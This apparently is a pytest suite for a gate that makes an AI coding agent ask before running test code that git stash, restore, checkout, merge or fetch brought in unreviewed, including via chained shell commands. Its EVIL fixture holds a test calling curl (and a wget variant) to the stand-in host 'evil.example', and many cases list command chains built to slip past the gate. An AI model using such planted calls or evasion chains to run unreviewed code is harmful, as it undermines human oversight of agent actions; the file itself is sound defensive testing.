"""Code that git brings back or brings in does not run unasked, if nobody has seen it. Daily work with git does."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from aver import open_ledger
from aver.check import verify
from support.agent_session import AgentSession
from support.hook_calls import sealed

EVIL = "import subprocess\n\n\ndef test_a():\n    subprocess.run(['curl', 'evil.example'])\n"
CLEAN = "def test_a():\n    assert True\n"
TEST = "tests/test_x.py"


def git(place: Path, *words: str) -> str:
    base = ["git", "-c", "user.name=a", "-c", "user.email=a@b", "-c", "protocol.file.allow=always"]
    return subprocess.run([*base, *words], cwd=place, check=True, capture_output=True, text=True).stdout


class GitSession(AgentSession):
    """A session in a repository. Commands of git that pass are carried out, and others where a person clicks."""

    def git(self, command: str, *, click: bool = True) -> str:
        word = self.bash(f"git {command}")
        if word == "pass" or click:
            import shlex

            git(self.workspace, *shlex.split(command))
            self.report("Bash", command=f"git {command}")
        return word

    def run_tests(self) -> str:
        return self.bash("pytest -q")


@pytest.fixture
def agent(tmp_path: Path) -> GitSession:
    workspace = tmp_path / "shop"
    (workspace / "tests").mkdir(parents=True)
    (workspace / "README.md").write_text("shop\n")
    (workspace / "app.py").write_text("x = 1\n")
    git(workspace, "init", "-q", "-b", "main")
    git(workspace, "add", ".")
    git(workspace, "commit", "-q", "-m", "first")
    return GitSession(workspace)


@pytest.fixture
def fetched(agent: GitSession, tmp_path: Path) -> GitSession:
    """A session whose repository has a remote with a branch that nobody here has seen."""
    there = tmp_path / "there"
    git(tmp_path, "clone", "-q", str(agent.workspace), str(there))
    (there / "tests").mkdir(exist_ok=True)
    (there / TEST).write_text(EVIL)
    git(there, "checkout", "-q", "-b", "theirs")
    git(there, "add", ".")
    git(there, "commit", "-q", "-m", "evil")
    git(agent.workspace, "remote", "add", "origin", str(there))
    return agent


# --- what the session wrote comes back


@pytest.mark.sample(4)
@pytest.mark.parametrize(
    ("aside", "back"),
    [
        (["stash -u"], ["stash -u", "stash pop stash@{1}"]),
        (["stash -u"], ["stash -u", "stash apply stash@{1}"]),
        (["stash push -u"], ["stash push -u", "stash pop 1"]),
        (["stash push --include-untracked -m x"], ["stash -u", "stash pop stash@{1}"]),
        (["stash save -u x"], ["stash -u", "stash pop stash@{1}"]),
        (["add tests/test_x.py", "stash"], ["add tests/test_x.py", "stash", "stash pop stash@{1}"]),
        (["add ."], ["checkout -- tests/test_x.py"]),
        (["add ."], ["restore tests/test_x.py"]),
        (["add -A"], ["checkout-index -f -- tests/test_x.py"]),
        (["stage tests"], ["restore --worktree tests/test_x.py"]),
        (["add ."], ["checkout ."]),
        (["stash -u"], ["stash -u", "stash branch other stash@{1}"]),
        (["stash -u"], ["checkout stash@{0}^3 -- tests/test_x.py"]),
        (["stash -u"], ["restore --source=stash@{0}^3 tests/test_x.py"]),
        (["stash -u"], ["stash -u", "cherry-pick -n -m1 stash@{1}", "checkout stash@{1}^3 -- ."]),
    ],
)
def test_a_file_that_was_put_aside_unseen_is_looked_into_when_it_comes_back(
    agent: GitSession, aside: list[str], back: list[str]
) -> None:
    assert agent.write(TEST, EVIL) == "pass"
    for command in aside:
        agent.git(command)
    if (agent.workspace / TEST).exists():
        (agent.workspace / TEST).unlink()
    assert agent.write(TEST, CLEAN) == "pass"
    assert agent.run_tests() == "pass"
    for command in back[:-1]:
        agent.git(command)
    if any("stash -u" in command or command == "stash" for command in back):
        (agent.workspace / TEST).unlink(missing_ok=True)
    agent.git(back[-1])
    assert (agent.workspace / TEST).read_text() == EVIL
    assert agent.run_tests() == "ask"
    assert TEST in agent.reason


@pytest.mark.sample(4)
@pytest.mark.parametrize(
    "command",
    [
        "git stash pop && pytest",
        "git stash apply; make test",
        "git stash pop\npytest -q",
        "git checkout -- . && pytest",
        "for x in 1; do pytest; git stash pop; done",
        "git stash pop || true; python -m pytest",
        "(git stash pop) && npm test",
        "f() { pytest; }; git stash pop; f",
        "pytest & git stash pop",
        "if git stash pop; then pytest; fi",
        "git stash pop | cat; cargo test",
    ],
)
def test_nor_does_it_come_back_and_run_in_one_command(agent: GitSession, command: str) -> None:
    assert agent.write(TEST, EVIL) == "pass"
    agent.git("stash -u")
    assert agent.write(TEST, CLEAN) == "pass"
    assert agent.run_tests() == "pass"
    assert agent.bash(command) == "ask"


def test_what_comes_back_clean_runs(agent: GitSession) -> None:
    assert agent.write(TEST, EVIL) == "pass"
    agent.git("stash -u")
    assert agent.write(TEST, CLEAN) == "pass"
    assert agent.git("add .", click=False) == "pass"
    assert agent.git("stash", click=False) == "pass"
    assert agent.git("stash pop", click=False) == "pass"
    assert agent.run_tests() == "pass"


def test_what_a_person_let_run_comes_back_and_runs(agent: GitSession) -> None:
    assert agent.write(TEST, EVIL) == "pass"
    agent.git("add .")
    assert agent.run_tests() == "ask"
    agent.report("Bash", command="pytest -q")
    assert agent.run_tests() == "pass"
    agent.git("stash")
    agent.git("stash pop")
    assert agent.run_tests() == "pass"
    # Another version of it does not.
    assert agent.write(TEST, EVIL.replace("curl", "wget")) == "pass"
    agent.git("stash -u")
    agent.git("stash pop")
    assert agent.run_tests() == "ask"
    with open_ledger() as ledger:
        assert verify(ledger).status == "verified"


def test_stash_and_pop_of_clean_work_is_not_asked_about(agent: GitSession) -> None:
    assert agent.write(TEST, CLEAN) == "pass"
    for command in ("add .", "stash", "stash pop", "commit -m x", "checkout -b new", "switch main", "switch new"):
        assert agent.git(command, click=False) == "pass"
        assert agent.run_tests() == "pass"
    assert agent.bash("git stash -u && pytest && git stash pop") == "pass"


# --- what came from elsewhere


BRINGS = [
    "checkout FETCH_HEAD",
    "checkout origin/theirs",
    "checkout theirs",
    "checkout -b mine origin/theirs",
    "checkout -t origin/theirs",
    "checkout --detach origin/theirs",
    "switch --detach origin/theirs",
    "switch --detach FETCH_HEAD",
    "switch theirs",
    "switch -c mine origin/theirs",
    "switch --create=mine origin/theirs",
    "merge FETCH_HEAD",
    "merge --ff-only origin/theirs",
    "rebase origin/theirs",
    "cherry-pick origin/theirs",
    "reset --hard origin/theirs",
    "reset --ha FETCH_HEAD",
    "checkout origin/theirs -- tests/test_x.py",
    "checkout origin/theirs .",
    "restore --source=origin/theirs tests",
    "restore -s origin/theirs -W -S .",
    "read-tree -u -m origin/theirs",
    "pull --no-rebase origin theirs",
    "worktree add sub origin/theirs",
]


@pytest.mark.sample(4)
@pytest.mark.parametrize("command", BRINGS)
def test_code_that_came_by_git_does_not_run_unasked(fetched: GitSession, command: str) -> None:
    assert fetched.git("fetch origin theirs:refs/remotes/origin/theirs") in ("pass", "ask")
    assert fetched.run_tests() == "pass"
    fetched.git(command)
    for run in ("pytest", "make test", "npm test", "python -m pytest -q", "cargo test", "git commit -m x"):
        assert fetched.bash(run) == "ask"
        assert "git brought here" in fetched.reason
    # Who allows the run has been told.
    assert fetched.run_tests() == "ask"
    fetched.report("Bash", command="pytest -q")
    assert fetched.run_tests() == "pass"


@pytest.mark.sample(4)
@pytest.mark.parametrize(
    "fetch", ["fetch", "fetch origin", "fetch --all", "fetch -p origin", "remote update", "fetch origin theirs"]
)
def test_after_every_kind_of_fetch(fetched: GitSession, fetch: str) -> None:
    fetched.git(fetch)
    fetched.git("checkout FETCH_HEAD" if "theirs" in fetch else "checkout origin/theirs")
    assert fetched.run_tests() == "ask"


@pytest.mark.sample(4)
@pytest.mark.parametrize(
    "command",
    [
        "git fetch && git checkout FETCH_HEAD && make test",
        "git fetch origin; git switch --detach origin/theirs; pytest",
        "git fetch && git checkout -b x origin/theirs && npm test",
        "git fetch origin theirs && git -C . checkout FETCH_HEAD && pytest",
        "git fetch && git -c advice.detachedHead=false checkout FETCH_HEAD && pytest",
        "git fetch && env git checkout FETCH_HEAD && pytest",
        "git fetch && command git checkout FETCH_HEAD && pytest",
        "git fetch && /usr/bin/git checkout FETCH_HEAD && pytest",
        "git fetch && nice git switch theirs && pytest",
        "test() { pytest; }; git fetch; git checkout theirs; test",
        "git fetch && git checkout theirs && bash -c pytest",
        "git fetch\ngit checkout theirs\npytest -q",
        "git fetch; (git checkout theirs; pytest)",
    ],
)
def test_nor_does_it_in_one_command(fetched: GitSession, command: str) -> None:
    assert fetched.bash(command) == "ask"


@pytest.mark.parametrize(
    "command", ["git checkout theirs && pytest", "git switch theirs; make test", "git merge theirs && npm test"]
)
def test_nor_after_a_fetch_in_a_command_before(fetched: GitSession, command: str) -> None:
    assert fetched.git("fetch") == "pass"
    assert fetched.bash(command) == "ask"


def test_a_script_that_takes_files_from_git_is_asked_about(fetched: GitSession) -> None:
    fetched.put("get.sh", "git checkout FETCH_HEAD\n")
    assert fetched.git("fetch") == "pass"
    assert fetched.bash("bash get.sh") == "ask"


def test_a_click_on_the_command_shows_no_code(fetched: GitSession) -> None:
    assert fetched.git("fetch") == "pass"
    assert fetched.git("merge origin/theirs") == "ask"
    assert fetched.run_tests() == "ask"


def test_a_branch_that_was_here_before_is_not_held_against_the_session(agent: GitSession) -> None:
    git(agent.workspace, "branch", "older")
    assert agent.git("switch older", click=False) == "pass"
    assert agent.run_tests() == "pass"


def test_a_new_branch_after_a_fetch_brings_nothing(fetched: GitSession) -> None:
    assert fetched.git("fetch", click=False) == "pass"
    for command in (
        "checkout -b one",
        "switch -c two",
        "switch --create three",
        "checkout -bfour",
        "status",
        "branch five",
    ):
        assert fetched.git(command, click=False) == "pass"
        assert fetched.run_tests() == "pass"


def test_all_that_was_decided_follows_from_the_records(fetched: GitSession) -> None:
    fetched.write(TEST, EVIL)
    for command in ("add .", "stash", "fetch", "checkout FETCH_HEAD", "stash pop"):
        fetched.git(command)
        fetched.run_tests()
    state = sealed(f"gate.{fetched.session}")[-1]["outcome"]["result"]["session"]
    assert state["git"] == {"fetched": True, "stored": {str(fetched.workspace / TEST): ""}}
    with open_ledger() as ledger:
        assert verify(ledger).status == "verified"
